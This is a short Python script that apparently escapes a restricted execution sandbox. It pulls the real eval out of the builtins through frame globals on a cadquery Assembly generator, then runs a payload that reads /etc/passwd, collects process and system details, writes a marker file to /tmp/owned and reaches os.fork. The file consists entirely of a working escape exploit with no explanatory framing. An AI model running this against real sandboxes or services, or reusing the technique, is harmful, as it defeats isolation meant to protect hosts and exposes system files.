from typing import Any as x
from cadquery import Assembly as x
def run(e, g):
    print(e("(__import__('os').getpid(), open('/etc/passwd').read(), __import__('os').uname(), open('/tmp/owned','w').write('x'), __import__('os').fork)", g))
run(x().traverse().gi_frame.f_globals.get("__builtins__").get("eval"), x().traverse().gi_frame.f_globals)
